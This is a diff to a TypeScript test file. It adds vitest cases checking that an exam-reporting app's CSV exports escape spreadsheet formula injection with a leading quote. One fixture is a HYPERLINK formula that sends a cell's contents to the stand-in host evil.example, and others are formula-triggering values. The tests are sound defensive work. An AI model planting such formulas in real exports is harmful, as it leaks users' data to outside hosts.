@@ -2,7 +2,8 @@ import type { ExamStatistics } from '@app/contracts';
 import { PDFDict, PDFDocument, PDFName } from 'pdf-lib';
 import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs';
 import { describe, expect, it } from 'vitest';
-import { statisticsFile } from './reports.exports.js';
+import Papa from 'papaparse';
+import { matrixFile, statisticsFile } from './reports.exports.js';
 
 /** The text a PDF reader finds, all pages together (what a search or a screen reader sees). */
 async function pdfText(pdf: Buffer): Promise<string> {
@@ -86,5 +87,33 @@ describe('exam statistics PDF', () => {
     const text = await pdfText(file.buffer);
     expect(text).toContain('Exam statistics: Physics mock');
     expect(text).toContain('Where does photosynthesis happen');
+  });
+});
+
+describe('CSV exports and spreadsheet formulas', () => {
+  const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&C2,"Click")';
+  const cellsOf = (csv: Buffer) => Papa.parse<string[]>(csv.toString('utf8').replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
+
+  it('writes a cell that a spreadsheet would run as a formula with a leading quote, numbers as they are', async () => {
+    const matrix = {
+      className: 'XI',
+      sectionName: null,
+      tests: [{ taskId: 1, taskName: '+Mock', courseName: 'c', total: 4, attempts: 1, mean: 2 }],
+      students: [
+        { userId: 1, displayName: HYPERLINK, username: '@ravi', sectionName: '-A', scores: [-1], average: -25, taken: 1 },
+        { userId: 2, displayName: '\t=1+1', username: 'x', sectionName: '=1\n2', scores: [null], average: null, taken: 0 },
+      ],
+    };
+    const file = await matrixFile(matrix, matrix.students, 'csv');
+    const [header, first, second] = cellsOf(file.buffer);
+    expect(header![3]).toBe("'+Mock (/4)");
+    expect(first).toEqual([`'${HYPERLINK}`, "'@ravi", "'-A", '-1', '1', '-25']);
+    expect(second!.slice(0, 3)).toEqual(["'\t=1+1", 'x', "'=1\n2"]);
+  });
+
+  it('does the same in the statistics CSV', async () => {
+    const file = await statisticsFile(statistics({ task: 'T', section: '=S', question: '@Q', student: HYPERLINK }), 'csv');
+    const text = file.buffer.toString('utf8');
+    for (const row of cellsOf(file.buffer)) for (const cell of row) expect(cell, text).not.toMatch(/^[=+@\t\r]/);
   });
 });
